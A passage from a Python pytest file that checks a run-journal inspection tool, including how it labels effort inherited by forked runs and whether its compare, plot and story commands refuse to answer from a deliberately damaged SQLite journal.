            found = read(run)
            journal.execute("UPDATE evaluation SET mean = ? WHERE generation = ?", (mean, last))
            return found

        monkeypatch.setattr(RunFolder, "evaluations", and_then_one_more)
        before, after = side(runs / "dream"), side(runs / "dream")
    assert len(after.evaluated_means) == len(before.evaluated_means) + 1


def test_what_a_fork_inherited_is_named(runs):
    inherited = '{"driven": 5000, "microseconds": 9000000}'
    change_journal(runs / "reality", "INSERT INTO run VALUES (?, ?)", START_EFFORT, inherited)
    fork = side(runs / "reality")
    assert re.search(r"\b5k .* 0\.0025 ", fork.spent)
    assert fork.total.steps > fork.inherited.steps == 5000


@pytest.mark.parametrize("words", [("compare", "reality", "hidden"), ("runs", "plot", "reality"), ("story", "reality")])
def test_no_answer_is_made_of_a_damaged_journal(runs, tmp_path, words):
    out = ("--out", tmp_path / "a.png") if "plot" in words else ()
    assert call_here(*words, *out)[0] == 0
    change_journal(runs / "reality", "DELETE FROM strategy")  # whose state before the last generation belongs there
    assert call_here(*words, *out)[0] == 1
